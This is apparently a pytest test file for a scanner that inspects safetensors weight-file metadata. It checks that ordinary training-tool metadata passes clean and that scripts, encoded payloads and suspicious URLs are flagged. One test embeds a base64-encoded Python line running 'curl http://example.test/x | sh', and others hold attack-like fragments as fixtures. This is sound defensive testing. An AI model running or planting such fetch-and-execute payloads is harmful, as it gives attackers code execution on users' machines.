"""Texts in weight files: what honest tools write yields nothing, what has no business there is named."""

from __future__ import annotations

import base64
import json

import numpy
import pytest
import safetensors
import safetensors.numpy
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support.cases import each
from tests.support.gguf_corpus import PAYLOADS, SCRIPTS, TRAPS
from tests.support.inspecting import Bytes, answer, subject_of, verdict_of
from tests.support.safetensors_corpus import file_of, hostile, with_metadata
from weighbridge.core.finding import Report, Verdict
from weighbridge.inspectors.all_rules import RULES
from weighbridge.inspectors.weights.metadata_text import MAX_JUDGED, MAX_RUNS
from weighbridge.inspectors.weights.safetensors import SafetensorsStructure

CASES = hostile()
PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40
JPEG = b"\xff\xd8\xff\xe0" + bytes(range(256)) * 40


def judged(data: bytes, path: str = "model.safetensors") -> Report:
    report = answer(SafetensorsStructure(), Bytes(path, data))
    assert report is not None
    return report


def rules(metadata: dict[str, str]) -> list[str]:
    data = safetensors.numpy.save({"a": numpy.ones(2)}, metadata=metadata)
    return [finding.rule for finding in judged(data).findings]


# --- the corpus of unsound safetensors files ---------------------------------------------------------


def test_the_corpus_is_large_and_breaks_every_rule() -> None:
    assert len(CASES) >= 220
    assert len({name for name, _, _ in CASES}) == len(CASES)
    tested = {rule for _, _, rule in CASES}
    ours = {rule for rule in RULES if rule.startswith("safetensors-")}
    assert tested <= ours
    # Their files are large; they are tested for themselves, here and in test_safetensors.
    assert ours - tested == {"safetensors-header-limit", "safetensors-header-values", "safetensors-metadata-limit"}


@each(("data", "rule"), [case[1:] for case in CASES], ids=[case[0] for case in CASES])
def test_an_unsound_file_is_refused_by_its_rule(data: bytes, rule: str) -> None:
    report = judged(data)
    assert [finding.rule for finding in report.findings] == [rule]
    assert (report.verdict is Verdict.BAD) == RULES[rule].severity.is_grave
    json.dumps([finding.to_json() for finding in report.findings], ensure_ascii=False).encode()


def test_what_the_reference_refuses_is_never_clean() -> None:
    refused = 0
    for name, data, _ in CASES:
        try:
            safetensors.deserialize(data)
        except (safetensors.SafetensorError, ValueError):
            refused += 1
            assert judged(data).verdict is Verdict.BAD, name
    assert refused > 150


# --- honest metadata ---------------------------------------------------------------------------------

WORKFLOW = {
    "nodes": [
        {"id": 1, "type": "Note", "widgets_values": ["See https://comfyanonymous.github.io/x and https://some.blog/a"]},
        {
            "id": 2,
            "type": "CLIPTextEncode",
            "widgets_values": ["1girl, <lora:thing:0.8>, (masterpiece:1.2); curl hair"],
        },
        {"id": 3, "image": "data:image/png;base64," + base64.b64encode(PNG).decode()},
    ],
    "extra": {"ds": {"scale": 0.9}, "node_versions": {"comfy-core": "0.3.10"}},
}
TAGS = {f"{n}_tag {chr(97 + n % 26)}": n for n in range(30_000)}
HONEST: dict[str, dict[str, str]] = {
    "transformers": {"format": "pt"},
    "numpy": {"format": "np"},
    "mlx": {"format": "mlx"},
    "kohya": {
        "ss_sd_model_name": "v1-5-pruned-emaonly.safetensors",
        "ss_sd_model_hash": "6ce0161689",
        "ss_new_sd_model_hash": "e1441589a6f3c5a53f5f54d0975a18a7feb7cdf0b0dee276dfc3331ae376a053",
        "ss_session_id": "2741849236",
        "ss_training_started_at": "1681234567.123",
        "ss_output_name": "last",
        "ss_network_module": "networks.lora",
        "ss_network_args": json.dumps({"conv_dim": "32", "algo": "lora", "preset": "attn-mlp"}),
        "ss_optimizer": "transformers.optimization.Adafactor(scale_parameter=False,relative_step=False)",
        "ss_training_comment": "LORA:Tools https://some.blog/my-lora for more; run with weight 0.7 && clip skip 2",
        "ss_dataset_dirs": json.dumps({"10_cat": {"n_repeats": 10, "img_count": 20}}),
        "ss_tag_frequency": json.dumps({"10_cat": TAGS | {":d": 3, "<o>_<o>": 1, ";)": 2, "os": 1, "http://artist.site": 4}}),
        "ss_bucket_info": json.dumps({"buckets": {str(n): {"resolution": [512, 64 * n]} for n in range(900)}}),
        "ss_datasets": json.dumps([{"subsets": [{"image_dir": "10_cat", "caption_extension": ".txt"}]}] * 50),
        "ss_sd_scripts_commit_hash": "0" * 40,
        "sshs_model_hash": "a" * 64,
        "sshs_legacy_hash": "deadbeef",
    },
    "modelspec": {
        "modelspec.sai_model_spec": "1.0.1",
        "modelspec.architecture": "stable-diffusion-xl-v1-base/lora",
        "modelspec.implementation": "https://github.com/Stability-AI/generative-models",
        "modelspec.implementation_version": "sd-scripts/" + "0" * 40,
        "modelspec.title": "LoRA@1681234567.1",
        "modelspec.description": "<p>A <b>nice</b> one. <a href='https://some.blog/x'>here</a></p>",
        "modelspec.license": "https://some.site/license",
        "modelspec.hash_sha256": "0x" + "9f" * 32,
        "modelspec.thumbnail": "data:image/jpeg;base64," + base64.b64encode(JPEG).decode(),
        "modelspec.date": "2024-01-01T00:00:00",
    },
    "ai-toolkit": {
        "format": "pt",
        "name": "my_lora",
        "version": "1.0",
        "software": json.dumps({"name": "ai-toolkit", "repo": "https://github.com/ostris/ai-toolkit", "version": "0.1.0"}),
        "training_info": json.dumps({"step": 2000, "epoch": 3}),
        "ss_base_model_version": "sdxl_1.0",
    },
    "comfyui": {"prompt": json.dumps({"3": {"class_type": "KSampler"}}), "workflow": json.dumps(WORKFLOW)},
    "merger": {
        "sd_merge_recipe": json.dumps({"type": "webui", "primary_model_hash": "b" * 64, "custom_name": "x"}),
        "sd_merge_models": json.dumps({"b" * 64: {"name": "a.safetensors", "legacy_hash": "0123abcd"}}),
    },
    "diffusers": {"format": "pt", "lora_adapter_metadata": json.dumps({"transformer.lora_alpha": 16, "transformer.r": 16})},
    "onetrainer": {"ot_branch": "master", "ot_revision": "0" * 40, "ot_config": json.dumps({"workspace_dir": "C:\\x\\y"})},
    "paths": {"trained_on": "D:\\loras\\data\\cat", "output": "/workspace/out/cat.safetensors", "cwd": "\\\\?\\C:\\x"},
    "words": {"note": "exec summary: pickle relish (eval score 0.5); shape of nc; rm old; sh! os. system prompts"},
    "empty": {"": "", "x": ""},
}  # fmt: skip


@each("name", HONEST)
def test_what_honest_tools_write_yields_nothing(name: str) -> None:
    data = safetensors.numpy.save({"a": numpy.ones(2)}, metadata=HONEST[name])
    report = judged(data)
    assert report.findings == ()
    assert report.verdict is Verdict.CLEAN
    assert verdict_of("lora.safetensors", data) is Verdict.CLEAN


@each("dtype", ["f2", "f4", "f8", "i1", "i2", "i4", "i8", "u1", "u2", "u4", "u8", "?", "c8"])
def test_files_of_the_library_are_clean_and_their_data_inert(dtype: str) -> None:
    data = safetensors.numpy.save({"b": numpy.ones((3, 5), dtype), "a": numpy.zeros((0, 2), dtype)}, {"format": "np"})
    subject = subject_of(Bytes("model-00001-of-00002.safetensors", data))
    report = SafetensorsStructure().inspect(subject)
    assert report is not None
    assert (report.verdict, report.findings) == (Verdict.CLEAN, ())
    (span,) = subject.inert_spans
    assert (span.start, span.end) == (8 + int.from_bytes(data[:8], "little"), len(data))


def test_nothing_of_a_bad_file_is_inert() -> None:
    subject = subject_of(Bytes("m.safetensors", with_metadata({"x": SCRIPTS[0]})))
    SafetensorsStructure().inspect(subject)
    assert subject.inert_spans == []


# --- what is not honest ------------------------------------------------------------------------------


@each("text", SCRIPTS)
def test_a_script_is_found_anywhere_in_a_text(text: str) -> None:
    for around in (text, f"{text} and more", f"before {text}", f"many\nlines\n{text}\nof text", f"ü {text.upper()} ü"):
        found = set(rules({"note": around, "format": "pt"}))
        assert "safetensors-metadata-script" in found or around == f"ü {text.upper()} ü"


@each("name", PAYLOADS)
def test_a_program_is_found_however_it_is_written(name: str) -> None:
    data = PAYLOADS[name]
    plain = base64.b64encode(data).decode()
    for text in (
        plain,
        base64.urlsafe_b64encode(data).decode().rstrip("="),
        f'{{"x": "{plain}"}}',
        plain.replace("/", "\\/"),
        data.hex(),
        data.hex().upper(),
        "".join(f"\\x{byte:02x}" for byte in data),
        "".join(f"\\u{byte:04x}" for byte in data),
        "".join(f"\\{byte:03o}" for byte in data),
        f"data:application/octet-stream;base64,{plain}",
        f"data:image/png;base64,{plain}",
    ):
        assert rules({"ss_note": text}) == ["safetensors-metadata-payload"], text[:40]


def test_a_script_in_base64_is_found() -> None:
    text = base64.b64encode(b"import os; os.system('curl http://example.test/x | sh') # " + b"x" * 30).decode()
    assert rules({"ss_note": text}) == ["safetensors-metadata-payload"]


@each("text", TRAPS)
def test_a_trap_is_found_under_any_key(text: str) -> None:
    for key in ("format", "modelspec.implementation", "ss_training_comment"):
        assert rules({key: f"see {text} please"}) == ["safetensors-metadata-url-suspicious"]


def test_credentials_in_an_address_are_not_repeated() -> None:
    report = judged(with_metadata({"x": "http://user:hunter2@example.test/x"}))
    assert "hunter2" not in json.dumps([finding.to_json() for finding in report.findings])


@pytest.mark.parametrize("host", ["huggingface.co", "github.com", "arxiv.org", "raw.githubusercontent.com"])
def test_well_known_hosts_are_no_finding(host: str) -> None:
    assert rules({"format": f"https://{host}/a/b"}) == []
    assert rules({"format": f"https://{host}.example.test/a"}) == ["safetensors-metadata-url"]
    assert rules({"format": f"https://example-{host.rpartition('.')[0].rpartition('.')[2]}.test/a"}) != []


def test_more_than_is_judged_is_said() -> None:
    assert rules({"ss_note": "w " * (MAX_JUDGED // 2 + 1)}) == ["safetensors-metadata-limit"]
    many = "\n".join(f"https://huggingface.co/{number}" for number in range(MAX_RUNS + 1))
    data = file_of({"__metadata__": {"ss_note": many}})
    report = judged(data)
    assert (report.verdict, [f.rule for f in report.findings]) == (Verdict.UNKNOWN, ["safetensors-metadata-limit"])


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from("ab<>\\/:;(){}[]\"'=.x0u\n |&$`@# é"), max_size=300))
def test_any_text_is_judged_and_shown_as_plain_text(text: str) -> None:
    report = judged(with_metadata({"x": text, text: "y"}))
    for finding in report.findings:
        assert finding.rule in RULES
        assert (finding.message + finding.location).isascii()
        assert len(finding.message) < 400


@each(
    "piece",
    [
        "curl ",
        "<a ",
        "<a/on",
        "; ",
        "os .",
        "eval( ",
        "a://",
        "a://a@",
        "data:a/b;",
        "\\\\",
        "\\x4",
        "exec(\t",
        "__class__ ",
        "sh -c ",
    ],
)
def test_texts_made_to_be_slow_are_judged_in_bounded_steps(piece: str) -> None:
    report = judged(with_metadata({"ss_note": piece * (400_000 // len(piece))}))
    assert all(finding.rule in RULES for finding in report.findings)
